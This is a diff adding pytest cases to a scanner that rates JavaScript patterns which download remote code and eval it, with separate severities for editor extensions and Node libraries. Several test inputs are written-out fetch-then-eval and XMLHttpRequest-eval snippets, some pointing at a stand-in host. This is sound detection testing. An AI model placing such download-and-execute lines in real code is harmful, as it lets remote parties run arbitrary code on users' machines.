@@ -108,3 +108,25 @@ def test_a_program_in_a_text_is_examined_too() -> None:
     source = 'const a = 1;\nnew Function("fetch(u).then((r) => r.text()).then((t) => eval(t))")();'
     (finding,) = findings_of(CHECK, source)
     assert finding.line == 2
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "fetch('../../vs/loader.js').then((r) => r.text()).then((t) => eval(t));",
+        """const xhr = new XMLHttpRequest(); xhr.open("GET", source);
+           xhr.onload = () => eval(xhr.responseText);""",
+    ],
+)
+def test_what_only_pages_can_do_is_less_in_a_library(source: str) -> None:
+    """Node has no XMLHttpRequest, and its fetch takes no relative address."""
+    assert worst(findings_of(CHECK, source), RULE) == Severity.CRITICAL
+    assert worst(findings_of(CHECK, source, is_for_editor=False), RULE) == Severity.MEDIUM
+
+
+@pytest.mark.parametrize("address", ["https://a.invalid/s", "//a.invalid/s", "...", "./"])
+def test_what_node_can_do_is_critical_in_a_library(address: str) -> None:
+    source = f"require('got')('{address}').then((t) => eval(t.body));"
+    if not address.startswith("./"):
+        source += f"fetch('{address}').then((r) => r.text()).then((t) => eval(t));"
+    assert worst(findings_of(CHECK, source, is_for_editor=False), RULE) == Severity.CRITICAL
